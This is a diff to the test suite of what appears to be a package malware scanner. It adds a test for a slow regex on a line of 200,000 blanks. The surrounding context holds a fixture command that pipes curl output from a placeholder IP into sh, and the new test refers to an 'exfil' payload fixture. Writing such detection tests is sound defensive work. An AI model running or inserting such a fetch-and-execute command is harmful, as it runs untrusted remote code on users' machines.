@@ -58,6 +58,18 @@ describe('auxiliary files', () => {
     expect(r.verdict).toBe('malicious');
   });
 
+  it('a from line of 200,000 blanks is read in one pass when following imports', async () => {
+    // `from[ \t]+([\w.]*)[ \t]+import` could split the run of blanks every way before failing.
+    const blanks = ' '.repeat(200_000);
+    const r = await scan({
+      'demo-1.0/demo/__init__.py': lines('from demo.tests import helper'),
+      'demo-1.0/demo/other.py': lines(`from${blanks}#import x`),
+      'demo-1.0/demo/tests/__init__.py': '',
+      'demo-1.0/demo/tests/helper.py': exfil,
+    });
+    expect(r.verdict).toBe('malicious');
+  });
+
   it('a shell script weighs a quarter unless the package runs it', async () => {
     const sh = lines('curl -s http://203.0.113.5/x | sh');
     const alone = await scan({ 'demo-1.0/demo/__init__.py': '', 'demo-1.0/build.sh': sh });
